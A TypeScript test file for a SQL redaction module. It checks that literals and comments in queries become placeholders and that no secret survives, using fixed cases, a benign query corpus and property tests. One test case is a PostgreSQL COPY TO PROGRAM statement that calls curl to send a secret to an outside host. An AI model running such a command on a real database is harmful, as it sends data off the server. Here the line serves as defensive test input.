// redactLiterals: no literal value or comment survives into recorded text.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { loadSqlParser } from './classify.js';
import fc from 'fast-check';
import { RedactionCache, UNPARSEABLE_REDACTED, redactLiterals } from './redact.js';
import { shapeKey, shapeKeyWithSpans, SPAN_COMMENT } from './shape-key.js';

before(() => loadSqlParser());

const CASES: [string, string][] = [
  ["select * from t where email = 'a@b.c' and n = 42", 'select * from t where email = $1 and n = $2'],
  ["create user x password 'hunter2'", 'create user x password $1'],
  ["alter role x password 'hunter2'", 'alter role x password $1'],
  ["copy t to program 'curl http://x/?k=secret'", 'copy t to program $1'],
  ["select B'0101', X'ff', U&'d\\0061t', E'x\\'y', $$dollar$$, $q$tagged$q$ from t where x = $1",
    'select $2, $3, $4, $5, $6, $7 from t where x = $1'],
  ['select 1 /* api_key=abc */ from t -- token xyz', 'select $1  from t'],
  ["select 'a'\n'b'", 'select $1'],
  ["select 'ünïcödé' as \"Ünï\"", 'select $1 as "Ünï"'],
  ['select a from t', 'select a from t'],
  ['', ''],
];

test('redactLiterals: literals become parameters, comments go', async (t) => {
  for (const [sql, expected] of CASES) {
    await t.test(sql, () => assert.equal(redactLiterals(sql), expected));
  }
});

test('redactLiterals: unparseable text is replaced whole, never echoed', () => {
  for (const sql of ["select 'secret", 'selec secret', "select 1\0 'secret'"]) {
    assert.equal(redactLiterals(sql), UNPARSEABLE_REDACTED);
  }
});

// ---- RedactionCache: redaction from the shape lexer's spans must equal the parser's ----------

/** Everyday statements (the BENIGN corpus of deny-corpus.test.ts, and the demo's customers queries). */
const CORPUS: string[] = [
  'SELECT abalance FROM pgbench_accounts WHERE aid = 48213;',
  'UPDATE pgbench_accounts SET abalance = abalance + -2345 WHERE aid = 48213;',
  'UPDATE pgbench_tellers SET tbalance = tbalance + 12 WHERE tid = 3;',
  'UPDATE pgbench_branches SET bbalance = bbalance + 12 WHERE bid = 1;',
  'INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (3, 1, 48213, 12, CURRENT_TIMESTAMP);',
  'BEGIN;', 'END;', 'COMMIT', 'ROLLBACK',
  "SET application_name = 'report'",
  'SET statement_timeout TO 5000',
  'SHOW server_version',
  'select o.id, c.name, sum(i.qty * i.price) as total from orders o join customers c on c.id = o.customer_id ' +
    'left join items i on i.order_id = o.id where o.created_at > now() - interval \'7 days\' group by o.id, c.name ' +
    'having sum(i.qty) > 1 order by total desc limit 50',
  'select id, rank() over (partition by region order by revenue desc) from sales',
  'with recent as (select * from orders where created_at > now() - interval \'1 day\') select count(*) from recent',
  'with recursive r(n) as (select 1 union all select n + 1 from r where n < 10) select * from r',
  'select * from t where id = any($1) for update skip locked',
  "select jsonb_build_object('a', 1) -> 'a', coalesce(x, 0) from t",
  'explain select * from orders where id = 1',
  'insert into t (a) values ($1) on conflict (a) do update set a = excluded.a returning id',
  'delete from sessions where expires_at < now()',
  'select pg_sleep(0)',
  'VALUES (1), (2)',
  'TABLE orders',
  "SELECT id, name, email, card_number FROM customers WHERE email = 'ada@example.com'",
  "select * from customers where id = 42 and name like 'A%' -- who\n and x = -1.5e3",
  "select * from customers /* note: 'x' */ where id in (1, 2, 3)\n  order by 1 limit 10 offset 20",
  'select x - 1, -2, - 3 from t where y = $2',
  "insert into customers (name, email) values ('Zoë ünïcödé', 'z@example.com'), ('O''Brien', 'o@example.com')",
  'select 2147483648, 2147483647, 1.5, 1e10 from t',
  "create table t2 (a varchar(10), b numeric(10, 2) default 0, c text default 'x')",
  "select 'it''s'; delete from t where id = 7",
  '  select 1  ',
];

/** The same statement with other literal values (same shape key): digits under ten become 1s, strings change. */
function vary(sql: string): string {
  const spans: number[] = [];
  assert.notEqual(shapeKeyWithSpans(sql, spans), null, sql);
  let out = '';
  let at = 0;
  for (let j = 0; j < spans.length; j += 3) {
    const [start, end, third] = [spans[j]!, spans[j + 1]!, spans[j + 2]!];
    if (third === SPAN_COMMENT) continue;
    const lit = sql.slice(start, end);
    // Ten digits or more stay: the value decides between int and float there.
    out += sql.slice(at, start) + (lit.startsWith("'") ? "'s3cr3t-V''al'" : /\d{10}/.test(lit) ? lit : lit.replace(/[1-9]/g, '1'));
    at = end;
  }
  return out + sql.slice(at);
}

test('RedactionCache: the corpus, and other values of each statement, redact as the parser does', () => {
  const cache = new RedactionCache();
  for (const sql of CORPUS) {
    assert.equal(cache.redact(sql), redactLiterals(sql), sql);
    const other = vary(sql);
    assert.equal(shapeKey(other), shapeKey(sql), other);
    const fast = cache.redact(other);
    assert.equal(fast, redactLiterals(other), other);
    assert.doesNotMatch(fast, /s3cr3t/, other);
  }
  const { fast, parsed } = cache.stats();
  // Shapes the lexer can redact exactly go without the parser on the second statement.
  assert.ok(fast >= CORPUS.length - 4, `fast ${fast}, parsed ${parsed}`);
});

test('RedactionCache: shapes the lexer cannot redact like the parser always go through the parser', () => {
  const cache = new RedactionCache();
  // A binary and a unary minus in one shape; a comment inside a folded negative number; text the
  // lexer gives up on; text that does not parse.
  for (const sql of ['select x - 1, -2 from t', 'select - /* c */ 1', "select E'a\\'b'", 'selec 1']) {
    assert.equal(cache.redact(sql), redactLiterals(sql), sql);
    assert.equal(cache.redact(sql), redactLiterals(sql), sql);
  }
  assert.equal(cache.stats().fast, 0);
});

test('RedactionCache: no literal survives, whatever the values (property)', () => {
  const cache = new RedactionCache();
  const value = fc.string({ minLength: 1, maxLength: 12 }).map((s) => `Q${s.replace(/[\0\\]/g, '')}Z`);
  fc.assert(fc.property(value, fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(' ', '\n', ' /* c */ ', ' -- c\n'), (s, i, d, sep) => {
    const sql = `select a,${sep}b from customers where email = '${s.replace(/'/g, "''")}' and n = ${i} and d <${sep}${Math.abs(d)}`;
    const out = cache.redact(sql);
    assert.equal(out, redactLiterals(sql), sql);
    assert.ok(!out.includes(s.replace(/'/g, "''")) && !out.includes('Q'), out);
  }), { numRuns: 300 });
  assert.ok(cache.stats().fast > 0);
});
